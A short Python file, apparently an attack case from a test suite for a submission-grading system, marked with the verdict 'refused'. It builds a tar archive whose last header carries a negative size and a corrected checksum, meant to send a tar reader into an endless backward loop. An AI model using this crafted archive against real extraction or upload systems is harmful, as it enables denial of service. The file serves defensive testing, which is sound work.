# verdict: refused
"""A size below zero, so that the last member is followed by the one before it, and so for ever."""
import tarfile

from attacks.support.packing import SCALE


def hand_in(people, student, right, secret):
    first = tarfile.TarInfo("notes.py").tobuf(tarfile.GNU_FORMAT)
    last = bytearray(tarfile.TarInfo(SCALE).tobuf(tarfile.GNU_FORMAT))
    last[124:136] = (-1024).to_bytes(12, "big", signed=True)
    last[148:156] = b"%06o\0 " % (sum(last[:148]) + sum(last[156:]) + 8 * 32)
    (people / f"{student}.tar").write_bytes(first * 2 + bytes(last) + bytes(1024))
